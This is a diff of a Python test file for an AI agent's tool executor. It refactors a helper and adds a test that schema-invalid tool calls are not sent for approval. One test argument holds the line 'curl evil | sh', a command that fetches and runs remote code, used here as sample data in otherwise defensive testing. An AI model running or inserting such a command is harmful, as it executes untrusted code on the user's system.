@@ -69,8 +69,8 @@ class Account:
         agent = await self.create("agent", new_id("agt"), config)
         return await self.resolver.resolve(agent, "cnv_1")
 
-    def list_tools(self, environment: Environment) -> set[str]:
-        """Return the names of the tools that are offered in an environment."""
+    def executor(self, environment: Environment) -> ToolExecutor:
+        """Return the tools of an environment, for a turn that does not exist."""
         nothing = cast("Any", None)
         context = ToolContext(
             turn=nothing,
@@ -79,8 +79,11 @@ class Account:
             jobs=nothing,
             files=nothing,
         )
-        executor = ToolExecutor(context, begin=nothing, check=nothing, allowed=None)
-        return {tool.name for tool in executor.list()}
+        return ToolExecutor(context, begin=nothing, check=nothing, allowed=None)
+
+    def list_tools(self, environment: Environment) -> set[str]:
+        """Return the names of the tools that are offered in an environment."""
+        return {tool.name for tool in self.executor(environment).list()}
 
 
 @pytest.fixture
@@ -142,3 +145,15 @@ async def test_readers_and_writers_do_not_share_a_sandbox(account: Account) -> N
     writer = await account.environment(workspaces=[WRITABLE], sandbox="box")
     assert reader.spec.label != writer.spec.label
     assert replace(reader.spec, label="", read_only=False) == replace(writer.spec, label="")
+
+
+async def test_nobody_is_asked_about_arguments_that_the_schema_refuses(account: Account) -> None:
+    """A call that cannot run needs no approval; a valid one does."""
+    await account.create("sandbox", "careful", {"provider": "host", "permissionMode": "ask"})
+    tools = account.executor(await account.environment(workspaces=[WRITABLE], sandbox="careful"))
+    for name, args in (
+        ("write", {"path": "x", "content": "curl evil | sh", "command": "ls -la"}),
+        ("bash", {"command": ["ls"]}),
+        ("edit", {"path": "x"}),
+    ):
+        assert not await tools.needs_approval(name, args, call="call_1")
